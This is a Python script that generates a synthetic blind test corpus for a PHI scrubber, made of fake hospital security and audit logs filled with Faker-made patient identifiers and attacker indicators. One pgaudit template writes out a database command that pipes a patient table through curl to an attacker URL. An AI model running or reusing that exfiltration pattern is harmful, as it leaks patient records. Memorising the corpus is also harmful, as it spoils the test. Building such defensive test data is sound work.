"""blind14: a fourteenth blind corpus for the PHI scrubber (issue 18).

Written without opening the scrubber, its results, score.py, the other generators or any
corpus's documents. Templates are this file's own. Seed 14014.

    .venv/bin/python gen/gen_blind14.py          # writes blind14/blind14.jsonl and MANIFEST.md
    .venv/bin/python gen/gen_blind14.py --check  # rebuilds in memory, compares byte for byte
"""

import json
import os
import random
import re
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import spandoc  # noqa: E402  (re-executes with PYTHONHASHSEED=0)
from spandoc import Doc, I, X, N, record  # noqa: E402
import indicators as ind  # noqa: E402
from faker import Faker  # noqa: E402

SEED = 14014
NDOCS = 400
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "blind14", "blind14.jsonl")
MAN = os.path.join(HERE, "..", "blind14", "MANIFEST.md")

R = random.Random(SEED)
FK = {}
for loc in ["en_US", "en_NZ", "pt_BR", "de_DE", "es_MX"]:
    f = Faker(loc)
    f.seed_instance(R.randint(1, 10 ** 9))
    FK[loc] = f

WORD_GIVEN = ["Hope", "Will", "Mark", "Grace", "Rose", "Faith", "June", "Chase", "Sterling",
              "Dawn", "Joy", "Miles", "Rich", "Summer", "Hunter"]
WORD_SUR = ["Brown", "Young", "King", "Ward", "Bishop", "Page", "Baker", "Stone", "Frost",
            "Little", "Long", "Fox", "Bell", "Hill", "Rice", "Fields", "Sharp"]
PLACES = ["Harlow Creek", "Pine Hollow", "Cedar Bluff", "Marigold Valley", "Stonebridge",
          "Larkspur", "North Fenwick", "Copper Ridge", "Saltmarsh", "Aldergrove", "Quarry Hill",
          "Brightwater", "Elk Prairie", "Tamarack", "Wexford Bay", "Juniper Flats"]
KINDS = ["Medical Center", "Regional Hospital", "Health System", "Community Hospital",
         "Family Clinic", "Surgical Associates", "Children's Clinic", "Behavioral Health",
         "Cancer Institute", "Rehabilitation Hospital"]
US_CITIES = [("Dayton", "OH"), ("Boise", "ID"), ("Fresno", "CA"), ("Tulsa", "OK"),
             ("Duluth", "MN"), ("Macon", "GA"), ("Spokane", "WA"), ("Lubbock", "TX"),
             ("Bangor", "ME"), ("Peoria", "IL"), ("Billings", "MT"), ("Reno", "NV"),
             ("Asheville", "NC"), ("Erie", "PA"), ("Topeka", "KS"), ("Savannah", "GA"),
             ("Provo", "UT"), ("Mobile", "AL"), ("Lansing", "MI"), ("Hartford", "CT")]
ACTORS = ["Scattered Spider", "FIN7", "TA505", "Storm-0501", "UNC3944", "Vanilla Tempest",
          "Wizard Spider", "Gold Melody", "Velvet Chollima", "Octo Tempest"]


def rint(a, b):
    return R.randint(a, b)


def pick(xs):
    return R.choice(xs)


def digits(n):
    return "".join(str(rint(0, 9)) for _ in range(n))


class Ctx:
    """One organization and its conventions, drawn per document."""

    def __init__(self, country="US"):
        place = pick(PLACES)
        kind = pick(KINDS)
        self.name = f"{place} {kind}"
        words = (place + " " + kind).replace("'", "").split()
        self.short = "".join(w[0] for w in words).upper()
        if len(self.short) < 3:
            self.short += "H"
        self.domain = ind.slug(place) + pick(["health.org", "med.org", "hospital.org",
                                              "clinic.com", "hs.org"])
        self.ad = self.short
        self.ufmt = rint(0, 3)
        self.hfmt = rint(0, 2)
        self.city, self.state = pick(US_CITIES)
        self.used = set()

    def set_org(self, name, domain):
        self.name, self.domain = name, domain
        w = ind.ascii_fold(name).replace("-", " ").split()
        self.short = "".join(x[0] for x in w if x[0].isalpha()).upper()[:5]
        if len(self.short) < 3:
            self.short += "H"
        self.ad = self.short

    def org(self):
        return {"name": self.name, "domains": [self.domain]}

    def person(self, loc="en_US"):
        f = FK[loc]
        while True:
            first, last = f.first_name(), f.last_name()
            if loc == "en_US" and R.random() < 0.22:
                if R.random() < 0.5:
                    first = pick(WORD_GIVEN)
                else:
                    last = pick(WORD_SUR)
            if (first, last) not in self.used and " " not in first:
                self.used.add((first, last))
                return first, last

    def uname(self, first, last):
        a, b = ind.slug(first), ind.slug(last)
        return [f"{a[0]}{b}", f"{a}.{b}", f"{b[:6]}{a[0]}", f"{a[:3]}{b[:3]}{rint(1, 9)}"][self.ufmt]

    def email(self, first, last):
        return f"{ind.slug(first)}.{ind.slug(last)}@{self.domain}"

    def host(self, kind=None):
        kind = kind or pick(["WS", "LT", "VDI", "NUR", "RAD", "REG", "PHA"])
        n = rint(10, 999)
        return [f"{self.short}-{kind}{n:03d}", f"{self.short.lower()}{kind.lower()}{n:03d}",
                f"{kind}-{self.short}-{n:03d}"][self.hfmt]

    def server(self):
        return f"{self.short.lower()}-{pick(['ehr', 'fs', 'sql', 'app', 'dc', 'pacs', 'web'])}" \
               f"{rint(1, 9):02d}"

    def fqdn(self, h):
        return f"{h.lower()}.{pick(['corp.', 'ad.', 'int.', ''])}{self.domain}"


def us_phone():
    a, b, c = rint(201, 989), rint(200, 999), rint(0, 9999)
    return pick([f"({a}) {b}-{c:04d}", f"{a}-{b}-{c:04d}", f"{a}.{b}.{c:04d}",
                 f"+1 {a} {b} {c:04d}"])


def us_zip():
    z = f"{rint(10000, 99899)}"
    return z + (f"-{rint(1000, 9999)}" if R.random() < 0.2 else "")


def us_street():
    return FK["en_US"].street_address()


def ssn():
    return f"{rint(100, 665)}-{rint(10, 99)}-{rint(1000, 9999)}"


def mrn():
    return pick([f"{rint(10000000, 99999999)}", f"MRN{rint(100000, 999999)}",
                 f"E{rint(1000000, 9999999)}", f"{rint(100, 999)}-{rint(10, 99)}-{rint(10, 99)}"])


def dob(fmt="us"):
    y, m, d = rint(1930, 2019), rint(1, 12), rint(1, 28)
    if fmt == "us":
        return pick([f"{m:02d}/{d:02d}/{y}", f"{m}/{d}/{y}", f"{y}-{m:02d}-{d:02d}"])
    if fmt == "dot":
        return f"{d:02d}.{m:02d}.{y}"
    if fmt == "dash":
        return f"{d:02d}-{m:02d}-{y}"
    return f"{d:02d}/{m:02d}/{y}"


MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


class Clock:
    def __init__(self):
        self.m, self.d = rint(9, 11), rint(1, 27)
        self.s = rint(0, 20000)

    def tick(self, a=1, b=400):
        self.s += rint(a, b)
        return self

    def hms(self):
        s = self.s % 86400
        return f"{s // 3600:02d}:{s % 3600 // 60:02d}:{s % 60:02d}"

    def iso(self, z=True):
        return f"2026-{self.m:02d}-{self.d:02d}T{self.hms()}" + ("Z" if z else "")

    def sp(self):
        return f"2026-{self.m:02d}-{self.d:02d} {self.hms()}"

    def syslog(self):
        return f"{MON[self.m - 1]} {self.d:2d} {self.hms()}"

    def usdt(self):
        s = self.s % 86400
        h = s // 3600
        return f"{self.m}/{self.d}/2026 {(h % 12) or 12}:{s % 3600 // 60:02d} {'AM' if h < 12 else 'PM'}"


def LT(s):
    return N(s, "LOGTIME")


def jq(v):
    """A JSON-string-escaped slot value."""
    t, c, ty = v if isinstance(v, tuple) else (v, None, None)
    t = json.dumps(t, ensure_ascii=False)[1:-1]
    return (t, c, ty) if c else t


def att_phone_us():
    return X(us_phone(), "PHONE_ATTACKER")


def wallet():
    if R.random() < 0.5:
        return "bc1q" + "".join(R.choice("023456789acdefghjklmnpqrstuvwxyz") for _ in range(38))
    return "0x" + ind.hexstr(R, 40)


def remote_id():
    return pick([f"{rint(100, 999)} {rint(100, 999)} {rint(100, 999)}",
                 f"{rint(1000000000, 1999999999)}"])


def pat_url(c, m):
    return f"https://portal.{c.domain}/chart/{pick(['patient', 'pt', 'record'])}/{m}"


# ---------------------------------------------------------------- machine-made styles (US)

def s_netlogon(c):
    d = Doc()
    k = Clock()
    for _ in range(rint(5, 9)):
        k.tick()
        f, l = c.person()
        u = c.uname(f, l)
        h = c.host()
        r = R.random()
        d.put(LT(f"{k.m:02d}/{k.d:02d} {k.hms()}")).t(" [LOGON] [" + str(rint(600, 9000)) + "] ")
        d.put(I(c.ad, "HOSTNAME")).t(": SamLogon: Network logon of ").put(I(c.ad, "HOSTNAME")) \
            .t("\\").put(I(u, "USERNAME")).t(" from ")
        if r < 0.25:
            d.t(pick(["kali", "WIN-3L0RD", "DESKTOP-K2PQ7"]))
            d.t(" (via ").put(I(c.server().upper(), "HOSTNAME")).t(") Returns 0xC000006A\n")
        else:
            d.put(I(h, "HOSTNAME")).t(" (via ").put(I(c.server().upper(), "HOSTNAME")) \
                .t(") Returns 0x0\n")
        if R.random() < 0.25:
            d.put(LT(f"{k.m:02d}/{k.d:02d} {k.hms()}")).t(" [SITE] NO_CLIENT_SITE: ") \
                .put(I(h, "HOSTNAME")).t(" ").put(I(ind.private_ipv4(R), "IP")).t("\n")
    if R.random() < 0.6:
        d.t("# analyst: spray from ").put(X(ind.public_ipv4(R), "IPV4")).t(" via VPN, see ") \
            .put(X(pick(ind.MITRE), "MITRE")).t("\n")
    return d, "en_US"


def s_clearpass(c):
    d = Doc()
    k = Clock()
    d.t("Request Id,Source,Username,Service,Login Status,Request Timestamp,Host MAC Address,NAS IP Address,Endpoint IP,Auth Method\n")
    for _ in range(rint(5, 9)):
        k.tick()
        f, l = c.person()
        mac = ":".join(ind.hexstr(R, 2) for _ in range(6))
        ok = R.random() < 0.75
        d.t(f"R{rint(10 ** 7, 10 ** 8)}-01-{rint(10, 99)},RADIUS,").put(I(c.uname(f, l), "USERNAME")) \
            .t(f",{pick(['Staff-Wireless 802.1X', 'Clinical-WLAN', 'Guest-Onboard'])},{'ACCEPT' if ok else 'REJECT'},") \
            .put(LT(k.sp())).t(",").put(I(mac, "DEVICE_SERIAL")).t(",").put(I(ind.private_ipv4(R), "IP")) \
            .t(",").put(I(ind.private_ipv4(R), "IP")).t(f",{pick(['EAP-PEAP', 'EAP-TLS', 'PAP'])}\n")
    if R.random() < 0.7:
        k.tick()
        d.t(f"R{rint(10 ** 7, 10 ** 8)}-01-{rint(10, 99)},RADIUS,admin,Clinical-WLAN,REJECT,").put(LT(k.sp())) \
            .t(",").put(X(":".join(ind.hexstr(R, 2) for _ in range(6)), "MAC_ATTACKER")).t(",") \
            .put(I(ind.private_ipv4(R), "IP")).t(",").put(X(ind.public_ipv4(R), "IPV4")).t(",PAP\n")
    return d, "en_US"


def s_f5apm(c):
    d = Doc()
    k = Clock()
    vip = ind.private_ipv4(R)
    for _ in range(rint(2, 4)):
        f, l = c.person()
        sid = ind.hexstr(R, 8)
        own = R.random() < 0.5
        src = I(ind.public_ipv4(R), "IP") if own else X(ind.public_ipv4(R), "IPV4")
        h = c.fqdn("apm01")
        for msg in ["New session from client IP {src} (ST={st}/CC=US/C=NA) at VIP {vip} Listener /Common/vpn_vs_443",
                    "Username '{u}'", "AD module: authentication with '{u}' {res}",
                    "Assigned PPP Dynamic IPv4: {pip} ID: 1 Tunnel Type: VPN_Tunnel_Protocol Resource: /Common/na_res Client IP: {src}"]:
            k.tick(1, 5)
            d.put(LT(k.syslog())).t(" ").put(I(h, "HOSTNAME")).t(f" notice apmd[{rint(1000, 9999)}]: 01490{rint(100, 999)}:5: /Common/vpn_ap:Common:{sid}: ")
            d.fill(msg, src=src, st=c.state, u=I(c.uname(f, l), "USERNAME"),
                   res="succeeded" if own else "failed (MFA denied)", pip=I(ind.private_ipv4(R), "IP"),
                   vip=I(vip, "IP"))
            d.t("\n")
        if not own and R.random() < 0.5:
            d.t(f"# geo: {pick(['RU', 'NL', 'VN', 'BR'])}, {pick(ind.MALWARE)} infra per vendor report\n")
    return d, "en_US"


def s_netscaler(c):
    d = Doc()
    k = Clock()
    gw = c.fqdn(f"{c.short.lower()}-ns01")
    for _ in range(rint(4, 7)):
        k.tick()
        f, l = c.person()
        bad = R.random() < 0.35
        cip = X(ind.public_ipv4(R), "IPV4") if bad else I(ind.public_ipv4(R), "IP")
        d.put(LT(k.syslog())).t(" ").put(I(gw, "HOSTNAME")).t(f" {k.m:02d}/{k.d:02d}/2026:{k.hms()} GMT {c.short}-NS 0-PPE-0 : default AAA ")
        if bad:
            d.t("LOGIN_FAILED ").t(f"{rint(100000, 999999)} 0 : User ").put(I(c.uname(f, l), "USERNAME")) \
                .t(" - Client_ip ").put(cip).t(" - Failure_reason \"Invalid credentials\" - Browser Mozilla/5.0\n")
        else:
            d.t("LOGIN ").t(f"{rint(100000, 999999)} 0 : Context ").put(I(c.uname(f, l), "USERNAME")).t("@").put(cip) \
                .t(" - SessionId: ").t(str(rint(1000, 99999))).t(" - User ").put(I(c.uname(f, l), "USERNAME")) \
                .t(" - Client_ip ").put(cip).t(" - Nat_ip ").put(I(ind.private_ipv4(R), "IP")).t(" - Vserver ").put(I(ind.private_ipv4(R), "IP")).t(":443\n")
    if R.random() < 0.6:
        d.t("Note: exploitation attempt matches ").put(X(pick(["CVE-2023-4966", "CVE-2023-3519", "CVE-2025-5777"]), "CVE")) \
            .t(" from ").put(X(ind.public_ipv4(R), "IPV4")).t("\n")
    return d, "en_US"


def s_rdgw(c):
    d = Doc()
    k = Clock()
    d.t("TimeCreated,Id,UserName,ClientIP,Resource,Protocol,ErrorCode\n")
    for _ in range(rint(5, 8)):
        k.tick()
        f, l = c.person()
        ev = pick([302, 303, 304, 312])
        src = I(ind.public_ipv4(R), "IP") if R.random() < 0.7 else X(ind.public_ipv4(R), "IPV4")
        d.put(LT(k.usdt())).t(f",{ev},").put(I(c.ad, "HOSTNAME")).t("\\").put(I(c.uname(f, l), "USERNAME")) \
            .t(",").put(src).t(",").put(I(c.fqdn(c.host()), "HOSTNAME")) \
            .t(f",HTTP,{0 if ev != 304 else 23003}\n")
    return d, "en_US"


def s_nutanix(c):
    k = Clock()
    lines = []
    for _ in range(rint(3, 6)):
        k.tick()
        f, l = c.person()
        d = Doc()
        vm = pick([c.server(), c.host("VDI")])
        op = pick(["VmPowerOff", "VmSnapshotDelete", "VmUpdate", "UserLogin", "ProtectionDomainDelete"])
        d.t('{"creationTimeStampUsecs":').t(str(rint(10 ** 15, 10 ** 16))).t(',"operationType":"').t(op) \
            .t('","userName":"').put(jq(I(c.email(f, l), "EMAIL"))).t('","clientIp":"').put(I(ind.private_ipv4(R), "IP")) \
            .t('","affectedEntity":{"name":"').put(I(vm, "HOSTNAME")).t('","type":"vm"},"message":"')
        d.t(f"{op} on ").put(I(vm, "HOSTNAME")).t(" by ").put(I(f"{f} {l}", "NAME")).t('","time":"').put(LT(k.iso())).t('"}\n')
        lines.append(d)
    if R.random() < 0.7:
        d = Doc()
        k.tick()
        d.t('{"creationTimeStampUsecs":').t(str(rint(10 ** 15, 10 ** 16))).t(',"operationType":"UserLogin","userName":"admin","clientIp":"') \
            .put(X(ind.public_ipv4(R), "IPV4")).t('","affectedEntity":{"name":"prism","type":"cluster"},"message":"login before ') \
            .put(X(pick(ind.RANSOM), "MALWARE")).t(' encryptor","time":"').put(LT(k.iso())).t('"}\n')
        lines.append(d)
    out = Doc()
    for x in lines:
        out.put(x)
    return out, "en_US"


def s_slackaudit(c):
    k = Clock()
    out = Doc()
    for _ in range(rint(3, 6)):
        k.tick()
        f, l = c.person()
        act = pick(["user_login", "file_downloaded", "file_public_link_created", "user_session_reset_by_admin"])
        d = Doc()
        d.t('{"id":"').t(ind.hexstr(R, 8) + "-" + ind.hexstr(R, 4)).t('","date_create":').t(str(1790000000 + k.s)) \
            .t(',"action":"').t(act).t('","actor":{"type":"user","user":{"id":"U0').t(ind.hexstr(R, 8).upper()) \
            .t('","name":"').put(I(f"{f} {l}", "NAME")).t('","email":"').put(I(c.email(f, l), "EMAIL")) \
            .t('"}},"context":{"ua":"Slack/4.41","ip_address":"')
        if R.random() < 0.3:
            d.put(X(ind.public_ipv4(R), "IPV4"))
        else:
            d.put(I(ind.public_ipv4(R), "IP"))
        d.t('","location":{"type":"workspace","name":"').put(I(c.name, "ORG")).t('"}}')
        if act.startswith("file"):
            pf, pl = c.person()
            d.t(',"entity":{"type":"file","file":{"name":"').put(I(f"{pl}_{pf}", "NAME")).t("_discharge.pdf")
            d.t('"}}')
        d.t("}\n")
        out.put(d)
    return out, "en_US"


def s_dropbox(c):
    d = Doc()
    k = Clock()
    d.t("Time,Member,Member email,Event type,Details,IP address,Country\n")
    for _ in range(rint(4, 8)):
        k.tick()
        f, l = c.person()
        pf, pl = c.person()
        ev = pick(["Shared link created", "Downloaded file", "Signed in", "Shared folder invited external"])
        d.put(LT(k.sp())).t(",").put(I(f"{f} {l}", "NAME")).t(",").put(I(c.email(f, l), "EMAIL")).t(f",{ev},")
        if ev.startswith("Shared folder"):
            d.t('"/Billing/Denials → ').put(X(ind.attacker_email(R), "EMAIL_ATTACKER")).t('"')
        else:
            d.t('"/Clinic/Referrals/').put(I(f"{pl}, {pf}", "NAME")).t(' referral.pdf"')
        d.t(",").put(I(ind.public_ipv4(R), "IP")).t(",United States\n")
    return d, "en_US"


def s_docusign(c):
    d = Doc()
    k = Clock()
    f, l = c.person()
    pf, pl = c.person()
    d.t("Envelope History\nEnvelope Id: ").t(f"{ind.hexstr(R, 8)}-{ind.hexstr(R, 4)}-{ind.hexstr(R, 4)}".upper()) \
        .t("\nSubject: Please DocuSign: Records release - ").put(I(f"{pf} {pl}", "NAME")) \
        .t("\nSender: ").put(I(f"{f} {l}", "NAME")).t(" <").put(I(c.email(f, l), "EMAIL")).t(">\nAccount: ").put(I(c.name, "ORG")) \
        .t("\n\nTime | Action | User | Activity | Status\n")
    for act in ["Registered", "Sent Invitations", "Viewed In-Session", "Signed", "Completed"]:
        k.tick(30, 900)
        u = I(f"{pf} {pl}", "NAME") if act in ("Viewed In-Session", "Signed") else I(f"{f} {l}", "NAME")
        d.put(LT(k.usdt())).t(f" | {act} | ").put(u).t(" | ")
        if act == "Sent Invitations":
            d.t("sent an invitation to ").put(I(f"{pf} {pl}", "NAME")).t(" [").put(I(f"{ind.slug(pf)}{rint(1, 99)}@gmail.com", "EMAIL")).t("]")
        elif act == "Signed":
            d.t("signed the envelope from ").put(I(ind.public_ipv4(R), "IP"))
        else:
            d.t("ok")
        d.t(f" | {'Completed' if act == 'Completed' else 'Sent'}\n")
    if R.random() < 0.6:
        d.t("\nNote: a look-alike envelope from ").put(X(ind.attacker_email(R, free=False), "EMAIL_ATTACKER")) \
            .t(" linking ").put(X(ind.url(R), "URL")).t(" was reported the same day.\n")
    return d, "en_US"


def s_github(c):
    k = Clock()
    out = Doc()
    org = ind.slug(c.name.split()[0]) + "-it"
    for _ in range(rint(3, 6)):
        k.tick()
        f, l = c.person()
        gh = f"{ind.slug(f)}-{ind.slug(l)[:4]}{rint(1, 99)}"
        act = pick(["repo.download_zip", "org.add_member", "personal_access_token.create", "git.clone"])
        out.t('{"@timestamp":').t(str(1790000000000 + k.s * 1000)).t(',"action":"').t(act).t('","actor":"').put(I(gh, "USERNAME")) \
            .t('","actor_ip":"').put(I(ind.public_ipv4(R), "IP")).t('","org":"').t(org).t('","repo":"').t(org).t("/" + pick(["ehr-interfaces", "claims-etl", "portal-web"])) \
            .t('","user":"').put(I(gh, "USERNAME")).t('"}\n')
    if R.random() < 0.8:
        k.tick()
        out.t('{"@timestamp":').t(str(1790000000000 + k.s * 1000)).t(',"action":"git.clone","actor":"').t(pick(["svc-ci", "deploy-bot"])) \
            .t('","actor_ip":"').put(X(ind.public_ipv4(R), "IPV4")).t('","org":"').t(org).t('","repo":"').t(org).t('/claims-etl","user_agent":"') \
            .put(X(pick(["Rclone", "Sliver"]), "MALWARE")).t('"}\n')
    return out, "en_US"


def s_salesforce(c):
    d = Doc()
    k = Clock()
    d.t("Login Time,Username,Source IP,Login Type,Status,Browser,Application,Location\n")
    for _ in range(rint(5, 8)):
        k.tick()
        f, l = c.person()
        bad = R.random() < 0.25
        d.put(LT(k.usdt())).t(",").put(I(c.email(f, l), "EMAIL")).t(",")
        d.put(X(ind.public_ipv4(R), "IPV4") if bad else I(ind.public_ipv4(R), "IP"))
        d.t(f",Application,{'Invalid Password' if bad else 'Success'},Chrome 131,")
        d.t("Data Loader" if bad else "Browser").t(",")
        d.put(N(pick(["Kyiv, UA", "Lagos, NG", "Amsterdam, NL"]), "GEO") if bad else I(f"{c.city}", "CITY")).t("\n")
    return d, "en_US"


def s_confluence(c):
    d = Doc()
    k = Clock()
    d.t("Date,Author,Remote address,Summary,Category,Affected object\n")
    for _ in range(rint(4, 8)):
        k.tick()
        f, l = c.person()
        pf, pl = c.person()
        d.put(LT(k.sp())).t(",").put(I(f"{f} {l}", "NAME")).t(" (").put(I(c.uname(f, l), "USERNAME")).t("),") \
            .put(I(ind.private_ipv4(R), "IP")).t(",")
        if R.random() < 0.5:
            d.t("Page exported to PDF,Pages,\"Care plan - ").put(I(f"{pf} {pl}", "NAME")).t(" (").put(I(mrn(), "MRN")).t(")\"\n")
        else:
            d.t("Space permission added,Permissions,\"").put(I(f"{pl}, {pf}", "NAME")).t("\"\n")
    if R.random() < 0.6:
        k.tick()
        d.put(LT(k.sp())).t(",Anonymous,").put(X(ind.public_ipv4(R), "IPV4")).t(",OGNL template request,Security,") \
            .put(X("CVE-2022-26134", "CVE")).t("\n")
    return d, "en_US"


def s_rsa(c):
    d = Doc()
    k = Clock()
    for _ in range(rint(4, 8)):
        k.tick()
        f, l = c.person()
        tok = f"000{rint(100000000, 999999999)}"
        ok = R.random() < 0.7
        d.put(LT(k.sp())).t(" AUTHN ").t("INFO" if ok else "WARN").t(" user_id=").put(I(c.uname(f, l), "USERNAME")) \
            .t(" first=").put(I(f, "NAME")).t(" last=").put(I(l, "NAME")).t(" token_sn=").put(I(tok, "DEVICE_SERIAL")) \
            .t(" agent=").put(I(c.fqdn(c.server()), "HOSTNAME")).t(" client_ip=")
        d.put(I(ind.private_ipv4(R), "IP") if ok else X(ind.public_ipv4(R), "IPV4"))
        d.t(" result=").t("PASSCODE_ACCEPTED" if ok else "NEXT_TOKENCODE_REQUIRED").t("\n")
    return d, "en_US"


def s_snort(c):
    d = Doc()
    k = Clock()
    for _ in range(rint(4, 7)):
        k.tick()
        a = ind.public_ipv4(R)
        sig = pick([("1:58445:3", "MALWARE-CNC Win.Trojan beacon"), ("1:2024897:2", "ET POLICY remote access tool"),
                    ("1:60311:1", "SERVER-WEBAPP path traversal attempt"), ("1:41978:5", "OS-WINDOWS SMB ransomware activity")])
        d.put(LT(f"{k.m:02d}/{k.d:02d}-{k.hms()}.{rint(100000, 999999)}")).t(f"  [**] [{sig[0]}] {sig[1]} [**] [Priority: {rint(1, 3)}] {{TCP}} ")
        if R.random() < 0.5:
            d.put(I(ind.private_ipv4(R), "IP")).t(f":{rint(49152, 65535)} -> ").put(X(a, "IPV4")).t(f":{pick([443, 80, 8443])}\n")
        else:
            d.put(X(a, "IPV4")).t(f":{rint(1024, 65535)} -> ").put(I(ind.private_ipv4(R), "IP")).t(f":{pick([445, 3389, 443])}\n")
    d.t("# sensor ").put(I(c.fqdn("ids01"), "HOSTNAME")).t("; family ").put(X(pick(ind.MALWARE), "MALWARE")).t("\n")
    return d, "en_US"


def s_modsec(c):
    d = Doc()
    k = Clock()
    pf, pl = c.person()
    m = f"{rint(1000000, 9999999)}"
    tid = ind.hexstr(R, 20)
    a = ind.public_ipv4(R)
    d.t(f"--{tid[:8]}-A--\n[{k.d:02d}/{MON[k.m - 1]}/2026:").put(LT(k.hms())).t(" +0000] ").t(tid).t(" ").put(X(a, "IPV4")) \
        .t(f" {rint(1024, 65535)} ").put(I(ind.private_ipv4(R), "IP")).t(" 443\n")
    d.t(f"--{tid[:8]}-B--\nGET /chart/patient/").put(I(m, "MRN")).t("/export?fmt=csv&name=").put(I(f"{pl}%2C{pf}", "NAME")) \
        .t(" HTTP/1.1\nHost: ").put(I(f"portal.{c.domain}", "HOSTNAME")).t("\nUser-Agent: python-requests/2.31\nReferer: ") \
        .put(X(ind.url(R), "URL")).t("\n")
    d.t(f"--{tid[:8]}-H--\nMessage: Access denied with code 403 (phase 2). Matched \"Operator `Ge' with parameter `5'\" [id \"949110\"] [msg \"Inbound Anomaly Score Exceeded\"] [hostname \"") \
        .put(I(f"portal.{c.domain}", "HOSTNAME")).t("\"] [uri \"/chart/patient/").put(I(m, "MRN")).t("/export\"]\n")
    d.t(f"--{tid[:8]}-Z--\n")
    return d, "en_US"


def s_exim(c):
    d = Doc()
    k = Clock()
    for _ in range(rint(2, 4)):
        k.tick()
        f, l = c.person()
        qid = f"1t{ind.hexstr(R, 4)}-00{rint(1000, 9999)}-{rint(10, 99)}".replace("t", pick(["t", "u", "v"]))
        bad = R.random() < 0.6
        snd = X(ind.attacker_email(R, free=R.random() < 0.5), "EMAIL_ATTACKER") if bad else I(c.email(*c.person()), "EMAIL")
        d.put(LT(k.sp())).t(f" {qid} <= ").put(snd).t(" H=")
        if bad:
            dm = ind.domain(R)
            d.t("(").put(X(dm, "DOMAIN")).t(") [").put(X(ind.public_ipv4(R), "IPV4")).t("]")
        else:
            d.t("(").put(I(c.fqdn(c.host()), "HOSTNAME")).t(") [").put(I(ind.private_ipv4(R), "IP")).t("]")
        d.t(f" P=esmtps X=TLS1.3:TLS_AES_256_GCM_SHA384:256 S={rint(2000, 90000)} id=").t(ind.hexstr(R, 12)).t("@mail\n")
        k.tick(1, 3)
        d.put(LT(k.sp())).t(f" {qid} => ").put(I(c.uname(f, l), "USERNAME")).t(" <").put(I(c.email(f, l), "EMAIL")) \
            .t("> R=localuser T=local_delivery\n")
        d.put(LT(k.sp())).t(f" {qid} Completed\n")
    return d, "en_US"


def s_redox(c):
    k = Clock()
    out = Doc()
    for _ in range(rint(2, 4)):
        k.tick()
        pf, pl = c.person()
        m = mrn()
        out.t('{"ts":"').put(LT(k.iso())).t('","level":"error","source":"').put(I(f"{c.name} Epic Prod", "ORG")) \
            .t('","dataModel":"PatientAdmin","eventType":"Arrival","error":"Destination returned 422","payload":{"Patient":{"Identifiers":[{"ID":"') \
            .put(I(m, "MRN")).t('","IDType":"MR"}],"Demographics":{"FirstName":"').put(I(pf, "NAME")).t('","LastName":"') \
            .put(I(pl, "NAME")).t('","DOB":"').put(I(f"{rint(1930, 2020)}-{rint(1, 12):02d}-{rint(1, 28):02d}", "DATE")) \
            .t('","SSN":"').put(I(ssn(), "SSN")).t('","PhoneNumber":{"Home":"').put(I(f"+1{rint(2000000000, 9899999999)}", "PHONE")) \
            .t('"},"Address":{"StreetAddress":"').put(I(us_street(), "ADDRESS")).t('","City":"').put(I(c.city, "CITY")) \
            .t('","State":"').t(c.state).t('","ZIP":"').put(I(f"{rint(10000, 99899)}", "ZIP")).t('"}}}}}\n')
    if R.random() < 0.5:
        k.tick()
        out.t('{"ts":"').put(LT(k.iso())).t('","level":"warn","source":"webhook","error":"unexpected destination ') \
            .put(X(ind.url(R), "URL")).t(' registered by ').put(X(ind.attacker_email(R), "EMAIL_ATTACKER")).t('"}\n')
    return out, "en_US"


def s_pgaudit(c):
    d = Doc()
    k = Clock()
    db = pick(["claims", "ehr_rpt", "billing"])
    for _ in range(rint(3, 6)):
        k.tick()
        f, l = c.person()
        pf, pl = c.person()
        u = c.uname(f, l)
        d.put(LT(k.sp() + ".123 UTC")).t(f" [{rint(1000, 99999)}] ").put(I(u, "USERNAME")).t(f"@{db} ") \
            .put(I(ind.private_ipv4(R), "IP")).t("(").t(str(rint(30000, 60000))).t(") LOG:  AUDIT: SESSION,")
        if R.random() < 0.5:
            d.t(f"{rint(1, 9)},1,READ,SELECT,,,\"select * from patient where last_name = '").put(I(pl, "NAME")) \
                .t("' and dob = '").put(I(f"{rint(1930, 2020)}-{rint(1, 12):02d}-{rint(1, 28):02d}", "DATE")).t("'\",<not logged>\n")
        else:
            d.t(f"{rint(1, 9)},1,WRITE,UPDATE,,,\"update patient set phone = '").put(I(us_phone(), "PHONE")) \
                .t("' where mrn = '").put(I(mrn(), "MRN")).t("'\",<not logged>\n")
    if R.random() < 0.6:
        k.tick()
        d.put(LT(k.sp() + ".456 UTC")).t(f" [{rint(1000, 99999)}] postgres@{db} ").put(X(ind.public_ipv4(R), "IPV4")) \
            .t("(51522) LOG:  AUDIT: SESSION,1,1,MISC,COPY,,,\"COPY patient TO PROGRAM 'curl -T - ").put(X(ind.url(R), "URL")).t("'\",<not logged>\n")
    return d, "en_US"


def s_beyondtrust(c):
    d = Doc()
    k = Clock()
    f, l = c.person()
    d.t("Support Session Report\nSession Key: ").t(str(rint(10 ** 8, 10 ** 9))).t("\nRepresentative: ").put(I(f"{f} {l}", "NAME")) \
        .t(" (").put(I(c.uname(f, l), "USERNAME")).t(")\nCustomer: ").put(I(c.host(), "HOSTNAME")).t(" / ").put(I(ind.private_ipv4(R), "IP")) \
        .t("\nPublic Site: ").put(I(f"support.{c.domain}", "HOSTNAME")).t("\n\n")
    for ev in ["Session started", "Screen sharing started", "File transfer", "Command shell opened", "Session ended"]:
        k.tick(20, 600)
        d.put(LT(k.sp())).t(f"  {ev}")
        if ev == "File transfer":
            pf, pl = c.person()
            d.t(": C:\\Users\\").put(I(c.uname(f, l), "USERNAME")).t("\\Desktop\\").put(I(f"{pl}_{pf}", "NAME")).t("_labs.xlsx")
        d.t("\n")
    if R.random() < 0.6:
        d.t("\nFollow-up: the same workstation later showed an unapproved session id ").put(X(remote_id(), "REMOTE_ID")) \
            .t(" from ").put(X(ind.public_ipv4(R), "IPV4")).t(" (").put(X("T1219", "MITRE")).t(").\n")
    return d, "en_US"


def s_varonis(c):
    d = Doc()
    k = Clock()
    f, l = c.person()
    sf, sl = c.person()
    d.t("From: DatAlert <datalert@").put(I(c.domain, "HOSTNAME")).t(">\nTo: ").put(I(f"{sf} {sl}", "NAME")).t(" <").put(I(c.email(sf, sl), "EMAIL")) \
        .t(">\nDate: ").put(N(k.usdt(), "MAILTIME")).t("\nSubject: [High] Abnormal access to sensitive files\n\n")
